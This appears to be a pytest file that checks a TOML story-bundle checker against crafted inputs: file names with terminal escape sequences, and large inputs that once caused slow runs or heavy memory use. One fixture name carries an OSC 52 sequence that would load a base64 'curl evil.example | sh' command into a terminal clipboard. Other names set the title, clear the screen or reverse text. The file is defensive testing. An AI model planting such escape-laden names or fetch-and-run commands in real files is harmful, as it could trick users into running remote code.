"""Crafted inputs that must not take over a terminal, a machine's memory or the CPU (issue 18).

Each case once failed: a file name holding escape sequences printed raw by `check`; unknown
actor references searched against every id (4,000 took 8 minutes); prefixed links that listed
every place their `exact` occurs (80,000 places, 800 links: 39 s); a problem after a long string
that cost 200 bytes of memory per byte of the string. The slow ones run `check` as a process
with a time limit, the memory one with a limit on its address space, so a regression fails
here instead of hanging the suite. How the time grows with the size is measured in
bench/linear.py (figures, not tests).
"""

from __future__ import annotations

import difflib
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.storygen.hostile import long_string_then_a_problem, repeated_phrase, unknown_references
from tui.model.suggest import close_match

REPO_ROOT = Path(__file__).resolve().parent.parent
BASE = (Path(__file__).resolve().parent / "bundles" / "base.toml").read_text(encoding="utf-8")
Run = Callable[..., Any]

# What a terminal would obey in a name: C0 controls but line feed, DEL, C1, bidi overrides.
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def check_process(
    path: Path, *args: str, timeout: float, memory: int | None = None
) -> subprocess.CompletedProcess[str]:
    """`baghouz-tui check PATH`, as a process: killed after `timeout` seconds, and given at
    most `memory` bytes of address space."""
    limit = ""
    if memory is not None:
        limit = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({memory}, {memory})); "
    code = f"{limit}import sys; from tui.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, "check", *args, str(path)],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="replace",
        cwd=REPO_ROOT,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        timeout=timeout,
        check=False,
    )


# --- file names are text too (issue 18, item 2) ------------------------------------------------

# a name -> how check shows it
HOSTILE_NAMES = {
    "title\x1b]0;owned\x07.toml": "title␛]0;owned␇.toml",  # sets the terminal's title
    # OSC 52 fills the clipboard (here with `curl evil.example | sh`)
    "clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07.toml": (
        "clip␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇.toml"
    ),
    "csi\x9b2J.toml": "csi\ufffd2J.toml",  # C1 CSI: clears the screen
    "bidi\u202eLMTH.toml": "bidi\ufffdLMTH.toml",  # shown reversed
    "two\nlines.toml": "two␊lines.toml",  # would start a problem line of its own
}
IDS = ["osc-title", "osc-52", "c1", "bidi", "line-feed"]


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES.items(), ids=IDS)
def test_check_prints_file_names_inert(
    name: str, shown: str, tmp_path: Path, run_cli: Run
) -> None:
    path = tmp_path / name
    path.write_text(BASE.replace('date = "2024-04-30"', 'date = "2024-04-31"'), "utf-8")
    result = run_cli("check", path)
    assert result.code == 1
    for stream in (result.out, result.err):
        assert stream and not TERMINAL_CONTROLS.search(stream), repr(stream)
    [problem] = result.out.splitlines()
    assert problem.startswith(f"{tmp_path}/{shown}:")
    assert result.err == f"{tmp_path}/{shown}: invalid (1 error)\n"


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=IDS)
def test_check_json_keeps_file_names_exact(name: str, tmp_path: Path, run_cli: Run) -> None:
    path = tmp_path / name
    path.write_text(BASE.replace('date = "2024-04-30"', 'date = "2024-04-31"'), "utf-8")
    result = run_cli("check", "--json", path)
    assert result.code == 1
    assert not TERMINAL_CONTROLS.search(result.out), repr(result.out)  # escaped, as \uXXXX
    [problem] = json.loads(result.out)
    assert problem["file"] == str(path)


def test_a_missing_file_with_a_hostile_name(tmp_path: Path, run_cli: Run) -> None:
    result = run_cli("check", tmp_path / "title\x1b]0;owned\x07.toml")
    assert result.code == 1
    assert "\x1b" not in result.out + result.err
    assert result.lines == [f"{tmp_path}/title␛]0;owned␇.toml: no such file"]


# --- check stays linear (issue 18, items 13 to 15) ---------------------------------------------


def test_unknown_references_cost_a_bounded_amount_each(tmp_path: Path) -> None:
    # 4,000 unknown references among 2,000 actors: 8 minutes when each looked at every id.
    path = tmp_path / "ghosts.toml"
    path.write_text(unknown_references(2_000, 4_000), encoding="utf-8")
    result = check_process(path, timeout=60)
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert len(lines) == 4_000
    assert all("`actors[0]` names 'actor-" in line for line in lines)
    assert lines[0].endswith("but no actor has that id; did you mean 'actor-0'?")
    assert lines[-1].endswith("but no actor has that id")  # past the first 50: no search


def test_prefixed_links_do_not_list_every_place(tmp_path: Path) -> None:
    # 160,000 places of one phrase, 1,600 links that pick one each: over a minute when each
    # link looked at all 160,000 (the 80,000 and 800 took 39 s), about a second now.
    path = tmp_path / "phrase.toml"
    path.write_text(repeated_phrase(160_000, 1_600), encoding="utf-8")
    result = check_process(path, timeout=30)
    assert (result.returncode, result.stdout) == (0, ""), result.stdout[-2000:]


def test_a_prefix_that_picks_no_place_among_many_is_reported(tmp_path: Path) -> None:
    text = repeated_phrase(8_000, 80).replace('prefix = "marker 3 "', 'prefix = "marker three "')
    path = tmp_path / "phrase.toml"
    path.write_text(text, encoding="utf-8")
    result = check_process(path, timeout=60)
    assert result.returncode == 1
    [line] = result.stdout.splitlines()
    assert "e3: sources[0]: the prefix given matches none of the 8000 place(s)" in line


@pytest.mark.parametrize("form", ["entry-after", "story-after", "multi-line-story-after"])
def test_placing_a_problem_after_a_long_string_costs_no_memory_per_byte(
    form: str, tmp_path: Path
) -> None:
    # 16 MB of paragraph: 2 to 3 GB to place the problem when the tokeniser kept 120 to 190
    # bytes per byte of a string it stepped over. 1 GiB of address space is plenty for the
    # rest (reading the file and parsing it take some 100 MB).
    path = tmp_path / "long.toml"
    text = long_string_then_a_problem(16_000_000, form)
    path.write_text(text, encoding="utf-8")
    result = check_process(path, timeout=120, memory=1 << 30)
    assert result.returncode == 1, result.stderr[-2000:]
    [line] = result.stdout.splitlines()
    needle = 'id = "Not A Slug"' if form.endswith("story-after") else 'exact = "missing"'
    number = text.count("\n", 0, text.index(needle)) + 1
    assert line.startswith(f"{path}:{number}: "), line


# "Did you mean" among many ids: difflib's own answer, found without weighing every id.

ID_TEXT = st.text(alphabet="abcdep-0123", min_size=1, max_size=12)


@settings(max_examples=300, deadline=None)
@given(ID_TEXT, st.lists(ID_TEXT, min_size=65, max_size=300, unique=True))
def test_suggestions_are_the_ones_difflib_gives(word: str, names: list[str]) -> None:
    hint = difflib.get_close_matches(word, names, n=1)
    assert close_match(word, names) == (hint[0] if hint else None)


def test_suggestions_among_many_similar_ids() -> None:
    names = [f"p{i}" for i in range(1, 20_001)]
    for word in ("p20001", "p1234x", "q77", "paragraph-3"):
        hint = difflib.get_close_matches(word, names, n=1)
        assert close_match(word, names) == (hint[0] if hint else None)


# --- raw control characters: the parser refuses them -----------------------------------------

# load looks for what could put a control character into a string in a parsed document, and
# not for raw C0 controls (but tab, line feed, carriage return) or DEL: TOML refuses them
# anywhere, in strings and comments alike, and so must tomli, or this scan misses them.
RAW_CONTROLS = [chr(code) for code in (*range(0x20), 0x7F) if chr(code) not in "\t\n\r"]
PLACES = {
    "basic string": 'headline = "a{}b"',
    "literal string": "headline = 'a{}b'",
    "multi-line basic": 'headline = """a\n{}b"""',
    "multi-line literal": "headline = '''a\n{}b'''",
    "comment": 'headline = "h"  # a{}b',
}


@pytest.mark.parametrize("place", list(PLACES))
def test_toml_refuses_every_raw_control_character_so_load_need_not_look(place: str) -> None:
    from tui.model.load import parse

    for control in RAW_CONTROLS:
        text = BASE.replace('headline = "', PLACES[place].format(control) + '\nx-old = "', 1)
        assert text != BASE
        bundle, problems = parse(text, "t.toml")
        assert bundle is None, (place, hex(ord(control)))
        assert [p.code for p in problems] == ["toml-syntax"], (place, hex(ord(control)))
    # the same text with a printable character in that place loads
    bundle, _ = parse(BASE.replace('headline = "', PLACES[place].format("x") + '\nx-old = "', 1),
                      "t.toml")
    assert bundle is not None
